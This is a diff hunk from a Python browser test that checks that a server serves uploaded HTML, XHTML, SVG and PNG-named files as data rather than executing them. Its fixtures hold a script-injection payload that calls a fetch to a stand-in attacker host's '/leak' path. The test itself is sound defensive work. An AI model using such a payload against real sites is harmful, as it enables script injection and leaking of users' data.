@@ -185,7 +185,7 @@ def test_files_are_served_as_data(browser: Any, server: ServerProcess, attacker:
     script = f"<script>alert(1); fetch('{attacker.base}/leak')</script>"
     (out / "evil.html").write_text(f"<html><body>{script}</body></html>")
     (out / "evil.xhtml").write_text(f'<html xmlns="http://www.w3.org/1999/xhtml">{script}</html>')
-    (out / "evil.svg").write_text(f'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')
+    (out / "evil.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')
     (out / "evil.png").write_text(script)  # a PNG name over HTML bytes: nosniff keeps it an image
     (out / "test..png").write_bytes(b"\x89PNG\r\n\x1a\n")
     for name in ("evil.html", "evil.xhtml", "evil.svg"):
